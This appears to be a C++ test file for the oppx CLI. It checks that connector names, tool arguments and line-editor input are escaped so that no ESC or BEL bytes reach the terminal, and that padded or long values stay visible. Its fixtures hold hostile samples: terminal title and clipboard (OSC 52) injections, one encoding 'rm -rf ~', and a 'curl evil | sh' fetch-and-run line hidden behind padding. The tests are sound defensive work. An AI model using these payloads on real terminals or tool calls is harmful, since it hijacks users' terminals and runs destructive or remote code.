// cli/output.h, as a user meets it: whatever a repository holds (a connector's name, its "type",
// the folder it was cloned into), no oppx command writes an ESC or BEL byte to the terminal, on
// stdout or stderr, in a listing, an error or a warning, and --json stays valid JSON.
#include "cli/line_editor.h"
#include "cli/output.h"
#include "tests/support/harness.h"

#include <boost/json.hpp>
#include <fmt/format.h>
#include <gtest/gtest.h>

#include <fstream>
#include <sstream>
#include <sys/stat.h>
#include <unistd.h>

namespace oppx::test {
namespace {

namespace json = boost::json;

struct TerminalOutput : ::testing::Test {
  TempHome home;
  // A repository cloned into a folder whose name sets the terminal's title and clears it.
  std::string repo = home.root() + "/\x1b]0;PWNED\x07\x1b[2Jrepo";
  char old_cwd[4096] = {};

  void SetUp() override {
    ASSERT_EQ(::mkdir(repo.c_str(), 0700), 0);
    ASSERT_EQ(::mkdir((repo + "/.git").c_str(), 0700), 0);
    ASSERT_NE(::getcwd(old_cwd, sizeof old_cwd), nullptr);
    ASSERT_EQ(::chdir(repo.c_str()), 0);
  }
  void TearDown() override {
    oppx({"daemon", "stop"});
    (void)!::chdir(old_cwd);
  }
  void write_repo(const std::string& text) { std::ofstream(repo + "/.mcp.json") << text; }

  // Runs `oppx args…` and checks what it printed; returns stdout.
  std::string shown(std::vector<std::string> args) {
    bool as_json = std::find(args.begin(), args.end(), "--json") != args.end();
    Result r = oppx(args);
    std::string what;
    for (auto& a : args) what += " " + a;
    for (const std::string* out : {&r.out, &r.err}) {
      EXPECT_EQ(out->find('\x1b'), std::string::npos)
          << "oppx" << json::serialize(json::value(what)) << " wrote ESC: " << json::serialize(json::value(*out));
      EXPECT_EQ(out->find('\x07'), std::string::npos)
          << "oppx" << json::serialize(json::value(what)) << " wrote BEL: " << json::serialize(json::value(*out));
    }
    if (as_json) {
      boost::system::error_code ec;
      json::parse(r.out, ec);
      EXPECT_FALSE(ec) << "not JSON: " << r.out;
    }
    return r.out + r.err;
  }
};

TEST_F(TerminalOutput, ARepositoryCannotWriteEscapesToTheTerminal) {
  const std::string evil = "\x1b]0;PWNED\x07\x1b[2Jx";
  json::object servers{{evil, {{"command", "/bin/true"}}},
                       {"red", {{"type", "\x1b[31mRED"}, {"url", "http://127.0.0.1:9/mcp"}}},
                       {"tool", {{"command", "/bin/true"}, {"args", {"\x1b[2J", "\u202e"}}}}};
  write_repo(json::serialize(json::object{{"mcpServers", servers}}));
  std::string listed = shown({"mcp", "list"});
  EXPECT_NE(listed.find("\\x1b]0;PWNED\\x07"), std::string::npos) << "shown escaped: " << listed;
  shown({"mcp", "list", "--json"});
  for (const std::string& name : {evil, std::string("red"), std::string("tool")}) {
    shown({"mcp", "get", name});
    shown({"mcp", "get", name, "--json"});
    shown({"mcp", "get", name, "--show-values"});
    shown({"mcp", "approve", name});
    shown({"mcp", "deny", name, "--json"});
    shown({"mcp", "tools", name});
    shown({"mcp", "call", name, "echo"});
  }
  shown({"mcp", "reconnect"});
  shown({"mcp", "remove", "--project", evil});

  // Warnings and errors about the file name its folder.
  write_repo(R"({"servers":{"x":{"command":"/bin/true"}}})");
  EXPECT_NE(shown({"mcp", "list"}).find("has no \"mcpServers\""), std::string::npos);
  write_repo("{\"mcpServers\": \x1b[31m");
  EXPECT_NE(shown({"mcp", "list"}).find("\\x1b]0;PWNED"), std::string::npos);
  shown({"mcp", "list", "--json"});
}

// A server's last words that are not UTF-8 reached the daemon's reply as they were, so the reply
// was no JSON to any parser and `oppx mcp list` waited for an answer it could not read. The
// daemon's lines are UTF-8 now (U+FFFD for such bytes) and the reason reads as JSON.
TEST_F(TerminalOutput, AServersStderrThatIsNotUtf8LeavesTheListReadable) {
  home.write_mcp_config(stdio_entry("bad", "sh", {"-c", "printf 'boom \\377\\376 end\\n' >&2; exit 3"}));
  std::string reason;
  EXPECT_TRUE(when_connectors_change(
      home.socket(),
      [&] {
        Result r = oppx({"mcp", "list", "--json"}, 10s);
        boost::system::error_code ec;
        json::value v = json::parse(r.out, ec);
        if (ec || !v.is_object()) return false;
        for (auto& c : v.at("connectors").as_array()) {
          if (auto* why = c.as_object().if_contains("reason"); why && why->is_string()) reason = why->as_string();
        }
        return reason.find("boom") != std::string::npos;
      },
      30s))
      << "no readable reason in `oppx mcp list --json`";
  EXPECT_NE(reason.find("boom \ufffd\ufffd end"), std::string::npos) << reason;
  EXPECT_EQ(shown({"mcp", "list"}).find('\xff'), std::string::npos);
}

// What a question shows of a tool's arguments (cli::shown_arguments, shown_text): a write whose
// payload sat after 420 spaces was shown cut at 400 characters, as harmless, and approved.
TEST(ShownArguments, PaddingIsAMarkerThatCountsItSoThePayloadIsInSight) {
  json::object args{{"path", "notes.txt"}, {"content", "Fix a typo." + std::string(420, ' ') + "curl evil | sh"}};
  cli::Shown s = cli::shown_arguments(args, false, "  ");
  EXPECT_EQ(s.text, "  path: \"notes.txt\"\n  content: \"Fix a typo.⟨420 spaces⟩curl evil | sh\"") << s.text;
  EXPECT_FALSE(s.folded);
  EXPECT_EQ(cli::shown_text("a\n\n\n\t  b", false).text, "a⟨2 spaces, 1 tab, 3 newlines⟩b");
  EXPECT_EQ(cli::shown_text("a b\tc\nd", false).text, "a b⇥c↵d") << "short runs stay, visible";
  EXPECT_EQ(cli::shown_text("x\u00a0\u00a0\u00a0\u00a0\u00a0\u00a0\u00a0\u00a0y", false).text, "x⟨8 other blanks⟩y");
}

TEST(ShownArguments, ALongValueIsItsHeadAndTailWithWhatIsLeftOutCounted) {
  std::string text = std::string(150, 'a') + std::string(700, 'm') + std::string(150, 'z');
  cli::Shown s = cli::shown_text(text, false);
  EXPECT_TRUE(s.folded);
  auto at = s.text.find(" … ");
  ASSERT_NE(at, std::string::npos) << s.text;
  std::size_t head = at, tail = s.text.size() - s.text.rfind(" … ") - std::string(" … ").size();
  std::size_t hidden = text.size() - head - tail;
  EXPECT_NE(s.text.find(fmt::format(" … {} characters more … ", hidden)), std::string::npos) << s.text;
  EXPECT_EQ(s.text.substr(0, 150), std::string(150, 'a'));
  EXPECT_EQ(s.text.substr(s.text.size() - 80), std::string(80, 'z'));
  // In full: every character, the lines as lines.
  cli::Shown full = cli::shown_text(text + "\nlast line", true, "    ");
  EXPECT_FALSE(full.folded);
  EXPECT_EQ(full.text, text + "\n    last line");
  cli::Shown args = cli::shown_arguments(json::object{{"issue", json::object{{"title", text}}}}, true, "");
  EXPECT_NE(args.text.find(text), std::string::npos);
}

TEST(ShownArguments, WhatADriveTheTerminalIsEscaped) {
  std::string evil = "\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;pwned\x07\u202eevil\u200b\r\u009b";
  for (bool full : {false, true}) {
    std::string s = cli::shown_arguments(json::object{{evil, evil}}, full, "  ").text;
    EXPECT_EQ(s.find('\x1b'), std::string::npos) << s;
    EXPECT_EQ(s.find('\x07'), std::string::npos) << s;
    EXPECT_EQ(s.find('\r'), std::string::npos) << s;
    EXPECT_EQ(s.find("\u202e"), std::string::npos) << s;
    EXPECT_EQ(s.find("\u200b"), std::string::npos) << s;
    EXPECT_EQ(s.find("\u009b"), std::string::npos) << s;
    EXPECT_NE(s.find("\\x1b]52;c;"), std::string::npos) << s;
    EXPECT_NE(s.find("\\u{202e}"), std::string::npos) << s;
  }
}

// The line editor draws its input, history, pastes and completions through the same escaping:
// a connector name from a repository's .mcp.json, listed by Tab, set the clipboard (OSC 52) and
// the title (OSC 0) when it was written raw.
TEST(LineEditorDrawing, CompletionsInputAndPromptAreEscaped) {
  const std::string evil = "x\x1b]52;c;cm0gLXJmIH4=\x07\x1b]0;pwned\x07\u202e\u200b";
  std::string list = cli::completion_list({"agentc", evil});
  EXPECT_EQ(list.find('\x1b'), std::string::npos) << list;
  EXPECT_EQ(list.find('\x07'), std::string::npos) << list;
  EXPECT_EQ(list.find("\u202e"), std::string::npos) << list;
  EXPECT_NE(list.find("agentc  x\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b]0;pwned\\x07\\u{202e}\\u{200b}"), std::string::npos)
      << list;
  // The input (typed, pasted, from history), over two lines, and the prompt: the only ESC bytes
  // are the editor's own cursor moves.
  cli::Drawing d = cli::draw_input("›\x1b]0;p\x07 ", "/mcp tools " + evil + "\n\tsecond", 5, 0);
  std::string bytes = d.bytes;
  for (std::string_view own : {"\x1b[J", "\x1b[1A", "\x1b[19C"}) {
    auto at = bytes.find(own);
    ASSERT_NE(at, std::string::npos) << json::serialize(json::value(d.bytes));
    bytes.erase(at, own.size());
  }
  EXPECT_EQ(bytes.find('\x1b'), std::string::npos) << json::serialize(json::value(d.bytes));
  EXPECT_EQ(bytes.find('\x07'), std::string::npos) << json::serialize(json::value(d.bytes));
  EXPECT_NE(bytes.find("\\x1b]0;pwned\\x07"), std::string::npos) << bytes;
  EXPECT_NE(bytes.find("\r\n      second"), std::string::npos) << "a tab as four spaces: " << bytes;
  EXPECT_EQ(d.rows, 1);
  EXPECT_EQ(d.cursor_row, 0);
}

TEST(LineEditorDrawing, TheCursorStandsWhereTheEscapedTextPutsIt) {
  // "a", ESC shown as the four characters \x1b, "b": the cursor after them is 2 + 6 columns in.
  cli::Drawing d = cli::draw_input("› ", std::string("a\x1b") + "b", 3, 0);
  EXPECT_EQ(d.bytes, "\r\x1b[J› a\\x1bb\r\x1b[8C");
  d = cli::draw_input("› ", "one\ntwo", 5, 1);
  EXPECT_EQ(d.bytes, "\x1b[1A\r\x1b[J› one\r\n  two\r\x1b[3C");
  EXPECT_EQ(d.cursor_row, 1);
}

// Lines broken at the terminal's width (cli::wrap_line, wrap_text): at spaces, never inside a word
// but for one longer than a line, the style carried over the break and the indent left plain.
TEST(OutputWrap, LinesBreakAtSpacesNeverInsideAWord) {
  using V = std::vector<std::string>;
  EXPECT_EQ(cli::wrap_line("the quick brown fox jumps", 10), (V{"the quick", "brown fox", "jumps"}));
  EXPECT_EQ(cli::wrap_line("the quick brown fox", 10, "  "), (V{"the quick", "  brown", "  fox"}));
  EXPECT_EQ(cli::wrap_line("short", 10), (V{"short"}));
  EXPECT_EQ(cli::wrap_line("", 10), (V{""}));
  EXPECT_EQ(cli::wrap_line("    indented text here", 12), (V{"    indented", "text here"}))
      << "the line's own indent is not a place to break";
  EXPECT_EQ(cli::wrap_line("a  b   c", 80), (V{"a  b   c"})) << "blanks inside a line stay";
  EXPECT_EQ(cli::wrap_line("ab cdefghijklmnop", 6), (V{"ab", "cdefgh", "ijklmn", "op"}))
      << "only a word longer than a line is cut";
  // Wide characters count two columns, combining marks none.
  EXPECT_EQ(cli::wrap_line("日本語 日本語", 8), (V{"日本語", "日本語"}));
  EXPECT_EQ(cli::display_width("e\u0301t\u00e9"), 3u);
  EXPECT_EQ(cli::display_width("\x1b[1mbold\x1b[0m"), 4u);
}

TEST(OutputWrap, AStyleOpenAtABreakIsClosedAndOpenedAgainAfterTheIndent) {
  std::vector<std::string> l = cli::wrap_line("x \x1b[1mone two\x1b[0m three", 7, "  ");
  ASSERT_EQ(l.size(), 3u);
  EXPECT_EQ(l[0], "x \x1b[1mone\x1b[0m");
  EXPECT_EQ(l[1], "  \x1b[1mtwo\x1b[0m");
  EXPECT_EQ(l[2], "  three");
}

TEST(OutputWrap, TextOfSeveralLinesHangsUnderEachLinesOwnText) {
  EXPECT_EQ(cli::wrap_text("! agentc is down: it stopped\n    1. run this again", 20, "    "),
            "! agentc is down: it\n    stopped\n    1. run this\n       again");
  EXPECT_EQ(cli::wrap_text("one\ntwo\n", 20), "one\ntwo\n");
}

TEST(OutputColumns, CellsArePaddedToTheirColumnAndCountsSayOneOrMany) {
  using V = std::vector<std::string>;
  EXPECT_EQ(cli::columns({{"a", "running", "1", "tool"}, {"a-longer-name", "failed", "12", "tools"}}, "llr"),
            (V{"a              running   1  tool", "a-longer-name  failed   12  tools"}));
  EXPECT_EQ(cli::columns({{"日本", "x"}, {"abcde", "y"}, {"z", ""}}), (V{"日本   x", "abcde  y", "z"}))
      << "wide characters count two columns; no blanks at a line's end";
  EXPECT_EQ(cli::counted(1, "tool", "tools"), "1 tool");
  EXPECT_EQ(cli::counted(0, "tool", "tools"), "0 tools");
  EXPECT_EQ(cli::right_aligned({"6", "12", "100"}), (V{"  6", " 12", "100"}));
}

// Issue 26: `oppx mcp list` (and /mcp in the chat) had its columns out of line after a long name,
// and said "1 tools".
TEST(OutputColumns, TheConnectorListIsInColumnsWithOneTool) {
  TempHome home;
  home.write_mcp_config(stdio_entry("one", FAKE_MCP_SERVER, {"ok"}) + "," +
                        stdio_entry("a-connector-with-a-long-name", FAKE_MCP_SERVER, {"tools"}));
  connectors_settled(home, home.root());
  Result r = oppx({"mcp", "list"});
  std::istringstream lines(r.out);
  std::string one, other;
  std::getline(lines, other);
  std::getline(lines, one);
  if (one.rfind("one", 0) != 0) std::swap(one, other);
  ASSERT_EQ(one.rfind("one ", 0), 0u) << r.out;
  EXPECT_NE(one.find(" 1 tool "), std::string::npos) << r.out;
  EXPECT_NE(other.find(" 2 tools "), std::string::npos) << r.out;
  EXPECT_EQ(one.find("running"), other.find("running")) << r.out;
  EXPECT_EQ(one.find(FAKE_MCP_SERVER), other.find(FAKE_MCP_SERVER)) << r.out;
  oppx({"daemon", "stop"});
}

}  // namespace
}  // namespace oppx::test
